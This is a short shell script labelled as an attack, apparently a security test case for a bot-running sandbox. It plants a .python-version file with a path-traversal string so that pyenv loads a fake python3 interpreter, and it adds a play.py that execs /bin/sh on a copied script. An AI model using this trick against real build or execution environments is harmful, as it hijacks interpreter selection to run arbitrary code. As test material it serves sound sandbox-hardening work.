# attack: a version file that pyenv reads where it is started
# from: bot
# bot: .
mkdir bot
cp "$SNOOP" bot/play.sh
echo "../../../../../../../../../../../..$(dirname "$SHARED")/fake" > bot/.python-version
printf 'import os\nos.execv("/bin/sh", ["sh", "play.sh"])\n' > bot/play.py
echo 'run = "python3 play.py"' > bot/skirmish.toml
mkdir -p canary/fake/bin canary/fake/lib
cp "$TRAP" canary/fake/bin/python3
cp "$SHARED" canary/fake/lib/shared
